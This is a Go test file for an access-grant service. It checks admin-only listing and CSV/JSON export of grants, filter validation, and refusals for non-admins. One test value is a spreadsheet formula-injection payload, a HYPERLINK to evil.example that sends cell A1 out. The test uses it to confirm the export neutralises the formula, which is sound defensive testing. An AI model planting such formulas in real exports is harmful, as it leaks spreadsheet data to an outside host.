package pipeline_test

import (
	"encoding/csv"
	"io"
	"net/http"
	"strings"
	"testing"

	"github.com/jitpipeline/jit/internal/grant"
	"github.com/jitpipeline/jit/internal/local/pipeline"
)

const grace = "grace@example.com" // admins@example.com: RECONCILE, EXPORT

// Administrators list everyone's grants with filters and export them;
// nobody else may, whatever the filters; a justification that a
// spreadsheet would run as a formula is exported inert.
func TestAdminListAndExport(t *testing.T) {
	t.Parallel()
	e := start(t, pipeline.Config{})
	formula := `=HYPERLINK("https://evil.example/?"&A1,"click")`
	// An hour on the fast clock is a real minute: ACTIVE throughout.
	code, g := e.call("POST", "/v1/grants", alice, map[string]any{"entitlement": "demo.demo-project.viewer", "requestedDuration": "PT1H", "justification": formula})
	if code != http.StatusCreated {
		t.Fatalf("request: %d %v", code, g)
	}
	viewer := g["id"].(string)
	pending := e.requestWith(bob, "demo.demo-project.admin", "needs approval")
	e.waitState(alice, viewer, grant.Active)

	ids := func(body map[string]any) []string {
		var out []string
		gs, _ := body["grants"].([]any)
		for _, raw := range gs {
			out = append(out, raw.(map[string]any)["id"].(string))
		}
		return out
	}
	for _, tc := range []struct {
		query string
		want  []string
	}{
		{"view=all", []string{pending, viewer}},
		{"view=all&state=ACTIVE", []string{viewer}},
		{"view=all&state=approval_awaited,active", []string{pending, viewer}},
		{"view=all&requester=bob@example.com", []string{pending}},
		{"view=all&entitlement=demo.demo-project.viewer", []string{viewer}},
	} {
		code, body := e.call("GET", "/v1/grants?"+tc.query, grace, nil)
		if got := ids(body); code != http.StatusOK || strings.Join(got, ",") != strings.Join(tc.want, ",") {
			t.Errorf("%s: %d %v, want %v", tc.query, code, got, tc.want)
		}
	}
	for _, tc := range []struct {
		user, query string
		code        int
		field       string
	}{
		{bob, "view=all", http.StatusForbidden, "view"},
		{bob, "view=all&requester=bob@example.com", http.StatusForbidden, "view"},
		{grace, "view=all&state=SLEEPING", http.StatusBadRequest, "state[0]"},
		{grace, "view=all&limit=0", http.StatusBadRequest, "limit"},
		{grace, "view=everything", http.StatusBadRequest, "view"},
	} {
		code, body := e.call("GET", "/v1/grants?"+tc.query, tc.user, nil)
		if field, _ := refusal(body); code != tc.code || field != tc.field {
			t.Errorf("%s as %s: %d %v, want %d on %s", tc.query, tc.user, code, body, tc.code, tc.field)
		}
	}

	get := func(user, query string) (int, http.Header, string) {
		req, _ := http.NewRequestWithContext(t.Context(), "GET", e.url+"/v1/grants:export?"+query, nil)
		req.Header.Set("X-Debug-Principal", "user:"+user)
		resp, err := http.DefaultClient.Do(req)
		if err != nil {
			t.Fatal(err)
		}
		defer resp.Body.Close()
		b, _ := io.ReadAll(resp.Body)
		return resp.StatusCode, resp.Header, string(b)
	}
	code, hdr, body := get(grace, "format=csv")
	if code != http.StatusOK || !strings.HasPrefix(hdr.Get("Content-Type"), "text/csv") || !strings.Contains(hdr.Get("Content-Disposition"), "grants.csv") {
		t.Fatalf("CSV export: %d %v\n%s", code, hdr, body)
	}
	rows, err := csv.NewReader(strings.NewReader(body)).ReadAll()
	if err != nil {
		t.Fatalf("the export is not CSV: %v", err)
	}
	if len(rows) != 3 || rows[0][0] != "id" {
		t.Fatalf("CSV rows %v, want a header and 2 grants", rows)
	}
	for _, r := range rows[1:] {
		if r[0] == viewer && (r[5] != "'"+formula || r[3] != "ACTIVE" || r[2] != alice) {
			t.Errorf("alice's row %q: the justification must start with an apostrophe", r)
		}
	}
	if code, _, body := get(grace, "format=json&state=ACTIVE"); code != http.StatusOK || !strings.Contains(body, viewer) || strings.Contains(body, pending) {
		t.Errorf("JSON export of ACTIVE: %d\n%s", code, body)
	}
	if code, _, _ := get(bob, "format=csv"); code != http.StatusForbidden {
		t.Errorf("bob exports: %d, want 403", code)
	}
	if code, _, _ := get(grace, "format=xml"); code != http.StatusBadRequest {
		t.Errorf("format=xml: %d, want 400", code)
	}
}
